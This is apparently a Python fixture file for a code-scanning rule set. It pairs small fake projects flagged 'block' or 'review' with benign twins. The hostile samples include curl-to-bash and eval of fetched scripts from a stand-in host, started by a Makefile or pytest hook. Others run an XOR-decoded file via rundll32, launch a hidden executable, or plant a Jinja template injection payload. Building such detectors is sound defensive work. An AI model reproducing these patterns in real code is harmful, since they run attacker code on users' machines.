"""Samples and twins of what is handed to a loader: of the system, or of a template that lies in a folder given."""

from inspection.rules.sample import Sample, py

_DECODED = (
    "import os, subprocess, tempfile\n\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
    "TO = os.path.join(tempfile.gettempdir(), 'icons.db')\nwith open(os.path.join(HERE, 'icons.bin'), 'rb') as file:\n"
    "    data = file.read()\nwith open(TO, 'wb') as file:\n    file.write(bytes(each ^ 7 for each in data))\n"
    "subprocess.Popen([{}])\n"
)
_FORMATTER = (
    "import json, sys\nfrom pathlib import Path\n\nimport jinja2\n\n\ndef load(folder):\n"
    "    return json.loads((folder / 'chat.json').read_text())['template']\n\n\n"
    "print(jinja2.Environment().from_string(load(Path(sys.argv[1]))).render())\n"
)
_TEMPLATE = '{{\n"template": "{{% for each in all %}}{{{{ each }}}}{{% endfor %}}{}"}}\n'
_REACHES = "{{ cycler.__init__.__globals__.os.popen('echo a').read() }}"
_SETTINGS = 'settings=$(curl -fsS "https://a.invalid/$1.{}")\n'


def _asked(script: str) -> dict[str, str | bytes]:
    """A script that a target of `make` starts, as the manual says."""
    return {"README.md": "Run `make up`.\n", "Makefile": "all:\n\t@true\n\nup:\n\tsh a.sh dev\n", "a.sh": script}


def _tested(line: str) -> dict[str, str | bytes]:
    """Tests that are prepared by a script of shell."""
    return {
        "tests/conftest.py": "import subprocess\nfrom pathlib import Path\n\n\ndef pytest_configure(config):\n"
        "    subprocess.run(['bash', str(Path(__file__).parent / 'data' / 'a.sh')])\n",
        "tests/data/a.sh": f"set -e\n{line}\n",
    }


_MACHINE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00This program cannot be run in DOS mode.\r\nPE\x00\x00"


def _brings(options: str) -> dict[str, str | bytes]:
    """A package that starts what it brings as soon as it is imported."""
    return {
        "README.md": "Run `node index.js`.\n",
        "index.js": "const { join } = require('path'), { execFile } = require('child_process');\n"
        f"execFile(join(__dirname, 'bin', 'a.bat'), [], {options});\nmodule.exports = () => process.platform;\n",
        "bin/a.bat": '@echo off\ncd /d %~dp0\nstart "" a.exe\n',
        "bin/a.exe": _MACHINE,
    }


HOSTILE: dict[str, dict[str, Sample]] = {
    "decoded_code": {
        "a file that is decoded, by a loader of the system": py(_DECODED.format("'rundll32', TO + ',Run'"), line=9),
    },
    "unread_code": {
        "a program that is started without a window, and never asked": Sample(
            _brings("{ windowsHide: true }"), "block", ("bin/a.exe", 0)
        ),
        "a program whose output is shown": Sample(
            _brings("{ windowsHide: true, stdio: 'inherit' }"), "review", ("bin/a.exe", 0)
        ),
        "the same by Python": Sample(
            {
                "README.md": "Run `python app.py`.\n",
                "app.py": "import subprocess\nsubprocess.Popen(['./bin/a.exe'], creationflags=0x08000000)\n",
                "bin/a.exe": _MACHINE,
            },
            "block",
            ("bin/a.exe", 0),
        ),
    },
    "fetch_and_run": {
        "settings by their address, which are run": Sample(
            _asked(_SETTINGS.format("env") + 'eval "$settings"\n'), "block", ("a.sh", 2)
        ),
        "a picture by its address, which is run": Sample(
            _asked("curl -s https://a.invalid/logo.png?v=2 | bash\n"), "block", ("a.sh", 1)
        ),
        "an installer by its address, which is run": Sample(
            _asked(_SETTINGS.format("sh") + 'eval "$settings"\n'), "review", ("a.sh", 2)
        ),
        "by a script that tests start": Sample(
            _tested("curl -sf https://a.invalid/seed | bash"), "block", ("tests/data/a.sh", 2)
        ),
        "by such a script, from where its makers publish it": Sample(
            _tested("curl -sf https://install.python-poetry.org | bash"), "review", ("tests/data/a.sh", 2)
        ),
    },
    "shipped_object": {
        "a template that is loaded from a folder that is given": Sample(
            {"chat/app.py": _FORMATTER, "model/chat.json": _TEMPLATE.format(_REACHES)}, "block", ("model/chat.json", 2)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "fetch_and_run": {
        "a script that tests start saves what it fetches": _tested("curl -sf https://a.invalid/seed -o seed.sql"),
        "settings by their address, which are read": _asked(
            _SETTINGS.format("env") + 'echo "$settings" | grep PEERS\n'
        ),
    },
    "unread_code": {
        "no program at all, without a window": {
            key: value.replace('start "" a.exe', "ver > a.txt") if isinstance(value, str) else value
            for key, value in _brings("{ windowsHide: true }").items()
            if key != "bin/a.exe"
        },
    },
    "decoded_code": {
        "a file that is decoded, by what measures it": {"app.py": _DECODED.format("'certutil', '-hashfile', TO")},
    },
    "shipped_object": {
        "a plain template that is loaded from a folder that is given": {
            "chat/app.py": _FORMATTER,
            "model/chat.json": _TEMPLATE.format("{{ end }}"),
        },
    },
}
